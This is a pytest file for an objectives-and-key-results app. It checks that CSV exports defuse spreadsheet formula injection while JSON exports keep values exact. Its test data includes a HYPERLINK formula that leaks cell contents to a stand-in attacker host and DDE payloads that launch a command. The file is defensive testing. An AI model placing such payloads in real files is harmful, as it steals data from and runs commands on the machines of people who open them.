"""The CSV export neutralises spreadsheet formulas; the JSON export stays exact."""

import csv
import io
import zipfile

import pytest

HOSTILE = {
    "=": '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


def rows(data, name):
    """Return the rows of one CSV file of the export's zip."""
    text = zipfile.ZipFile(io.BytesIO(data)).read(name).decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("start", HOSTILE)
def test_formulas_are_neutralised_in_csv_and_exact_in_json(account, start):
    text = HOSTILE[start]
    objective = account.send("POST", "/objectives", {"title": text, "period": "2026-Q1"}, 201)
    body = {
        "objective_id": objective["id"],
        "title": text,
        "metric": text,
        "start_value": -5,
        "target_value": 5,
    }
    key_result = account.send("POST", "/key-results", body, 201)
    check_in = {"value": -1, "note": text, "at": "2026-01-05T00:00:00Z"}
    account.send("POST", f"/key-results/{key_result['id']}/check-ins", check_in, 201)
    # Titles are trimmed: a leading tab or carriage return is not kept, the formula is.
    title, metric = objective["title"], key_result["metric"]
    assert title.startswith(("=", "+", "-", "@"))

    archive = account.export("?format=csv").data
    assert rows(archive, "objectives.csv")[0]["title"] == "'" + title
    (key_result_row,) = rows(archive, "key_results.csv")
    assert (key_result_row["title"], key_result_row["metric"]) == ("'" + title, "'" + metric)
    assert key_result_row["start_value"] == "-5.0"  # numbers stay numbers
    (check_in_row,) = rows(archive, "check_ins.csv")
    assert check_in_row["note"] in ("'" + text, "'" + text.strip())
    assert check_in_row["value"] == "-1.0"

    document = account.export("").get_json()
    (exported,) = document["objectives"]
    assert exported["title"] == title
    assert exported["key_results"][0]["metric"] == metric
    assert exported["key_results"][0]["check_ins"][0]["note"] in (text, text.strip())


def test_plain_text_is_left_alone(account):
    account.send("POST", "/objectives", {"title": "Grow = good", "period": "2026-Q1"}, 201)
    (row,) = rows(account.export("?format=csv").data, "objectives.csv")
    assert row["title"] == "Grow = good"
